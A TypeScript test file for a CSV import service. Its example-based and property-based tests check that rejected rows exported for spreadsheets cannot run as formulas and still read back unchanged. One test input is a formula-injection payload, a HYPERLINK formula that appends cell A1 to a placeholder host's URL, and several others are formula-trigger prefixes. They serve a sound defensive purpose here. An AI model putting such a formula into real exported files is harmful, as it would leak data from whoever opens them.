import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { readTable } from '../../src/service/import/reading/csv.ts'
import { rejectsOf } from '../../src/service/import/reading/rejection.ts'
import { asItWas, forSpreadsheet } from '../../src/service/import/reading/spreadsheet.ts'

/** Rejected lines are opened in a spreadsheet: nothing of them is a formula there, and nothing is lost on the way back. */

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text)
const DELIMITERS = [',', ';', '\t', '|'] as const

test.each([
  ['=HYPERLINK("http://x.test/?"&A1,"pay here")', `'=HYPERLINK("http://x.test/?"&A1,"pay here")`],
  ['-30.00', "'-30.00"],
  ['+1-202-555-0100', "'+1-202-555-0100"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t'=1"],
  ["'=1", "''=1"],
  ['a;=1+1', "a;'=1+1"],
  ['Mo-Fr, 5 = five', 'Mo-Fr, 5 = five'],
  ["'t Hart", "'t Hart"],
])('%j is written as %j and read as it was', (cell, written) => {
  expect(forSpreadsheet(cell)).toBe(written)
  expect(asItWas(written)).toBe(cell)
})

/** Few characters, so that what matters meets often; a file that was read has no carriage return. */
const cell = fc.string({ unit: fc.constantFrom(...`'"=+-@\t\n,;| aé1.＝`), maxLength: 12 })
const table = fc.record({
  delimiter: fc.constantFrom(...DELIMITERS),
  header: fc.array(cell, { minLength: 1, maxLength: 5 }),
  rows: fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 5 }),
})

test('whatever a file holds: rejected, opened by any delimiter, no cell is a formula; read again, each is as it was', () => {
  fc.assert(
    fc.property(table, ({ delimiter, header, rows }) => {
      const numbered = rows.map((cells, at) => ({ line: at + 2, cells }))
      const blames = [{ field: header[0] ?? '', code: 'empty' as const }]
      const rejected = numbered.map(({ line }) => ({ line, blames }))
      const text = rejectsOf({ header, rows: numbered, map: { delimiter } }, rejected)
      const read = readTable(bytes(text), delimiter, 'f.csv')
      expect(read.header.slice(3)).toEqual(header.map((name) => name.trim()))
      expect(read.rows.map((row) => row.cells.slice(3))).toEqual(rows)
      const shown = parse(text, { delimiter, relax_column_count: true, relax_quotes: true }) as string[][]
      expect(shown.flat().filter((one) => /^[=+\-@\t\r\n＝＋－＠]/u.test(one))).toEqual([])
      const torn = DELIMITERS.flatMap((other) => text.split('\n').flatMap((line) => line.split(other)))
      expect(torn.filter((one) => /^"*[=+\-@＝＋－＠]/u.test(one))).toEqual([])
    }),
    { numRuns: 2000 },
  )
})
